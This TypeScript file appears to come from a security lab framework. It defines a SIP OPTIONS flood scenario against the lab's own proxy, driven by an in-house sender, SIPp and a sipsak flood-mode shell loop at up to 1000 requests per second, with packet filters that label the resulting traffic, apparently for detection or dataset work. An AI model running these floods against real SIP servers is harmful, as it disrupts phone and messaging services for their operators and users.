/** A11, first half: one server asked with OPTIONS again and again (S2-22), by the lab's own sender, SIPp and sipsak. */
import type { Intensity, Lab, Scenario } from '../scenario.ts';
import { Attacker } from './senders/attacker.ts';
import { foreignDomain, word } from './senders/names.ts';
import { countAt, drawnPace, lasting, play } from './senders/schedule.ts';
import { SIPP_FILTER, sippCommand } from './senders/sipp.ts';

function open(lab: Lab, intensity: Intensity, address: string) {
  return lab.campaign({
    attack: 'A11',
    classes: ['flood'],
    stage: 'disrupt',
    intensity: intensity.name,
    attackers: [address],
    targets: [lab.site.proxy.address],
  });
}

async function byOwnSender(lab: Lab, intensity: Intensity): Promise<void> {
  const address = lab.segment('attack').address();
  const campaign = open(lab, intensity, address);
  const attacker = await Attacker.open(lab, campaign, lab.segment('attack'), { address });
  const random = lab.random.fork('requests');
  const from = `sip:${word(random)}@${foreignDomain(random)}`;
  const uri = random.chance(0.7) ? `sip:${lab.site.domain}` : `sip:${lab.site.proxy.address}`;
  await play(lab, drawnPace(random.fork('times'), intensity.value, countAt(intensity.value)), () => {
    attacker.send({ method: 'OPTIONS', uri, from, callId: attacker.callId(), cseq: 1 }, lab.site.proxy);
  });
  await lab.sleep(500);
  attacker.close();
  campaign.end('unknown');
}

async function byTool(lab: Lab, intensity: Intensity, command: (address: string) => string[], seconds: number): Promise<void> {
  const address = lab.segment('attack').address();
  const campaign = open(lab, intensity, address);
  campaign.owns('attack');
  await lab.tool('attack', command(address), seconds);
  await lab.sleep(500);
  campaign.end('unknown');
}

function bySipp(lab: Lab, intensity: Intensity): Promise<void> {
  const random = lab.random.fork('requests');
  const { domain, proxy } = lab.site;
  return byTool(
    lab,
    intensity,
    (address) => {
      const count = countAt(intensity.value);
      const calls = Array.from({ length: count }, () => ({ uri: `sip:${domain}`, user: word(random), domain: foreignDomain(random) }));
      return sippCommand({ method: 'OPTIONS', calls }, address, `${proxy.address}:${proxy.port}`, intensity.value);
    },
    lasting(intensity.value) + 8,
  );
}

/** sipsak floods as fast as it can: a burst each second. (Its own pause, `-o`, sends one request and sleeps.) */
function bySipsak(lab: Lab, intensity: Intensity): Promise<void> {
  const { proxy } = lab.site;
  const uri = `sip:${word(lab.random.fork('user'))}@${proxy.address}:${proxy.port}`;
  const burst = `sipsak -F -e ${intensity.value} -s ${uri}`;
  return byTool(lab, intensity, () => ['sh', '-c', `for i in 1 2 3 4 5 6 7 8 9 10; do ${burst}; sleep 1; done`], 20);
}

/** By the lab's own sender. */
export const OPTIONS_FLOOD: Scenario = {
  name: 'options-flood',
  title: 'OPTIONS to one server, by the hundred a second',
  attack: 'A11',
  intensities: [
    { name: '100/s', value: 100 },
    { name: '10/s', value: 10 },
    { name: '1000/s', value: 1000 },
  ],
  proof: 'hashes',
  run: byOwnSender,
};

/** By SIPp. */
export const OPTIONS_FLOOD_BY_SIPP: Scenario = {
  name: 'options-flood-sipp',
  title: 'OPTIONS to one server, by SIPp',
  attack: 'A11',
  intensities: [
    { name: '50/s', value: 50 },
    { name: '500/s', value: 500 },
  ],
  proof: { filter: SIPP_FILTER },
  needs: ['sipp'],
  run: bySipp,
};

/** By sipsak in flood mode. */
export const OPTIONS_FLOOD_BY_SIPSAK: Scenario = {
  name: 'options-flood-sipsak',
  title: 'OPTIONS to one server, by sipsak in flood mode',
  attack: 'A11',
  intensities: [
    { name: '100/s', value: 100 },
    { name: '1000/s', value: 1000 },
  ],
  proof: { filter: '!icmp && sip.Method == "OPTIONS" && sip.User-Agent contains "sipsak"' },
  needs: ['sipsak'],
  run: bySipsak,
};
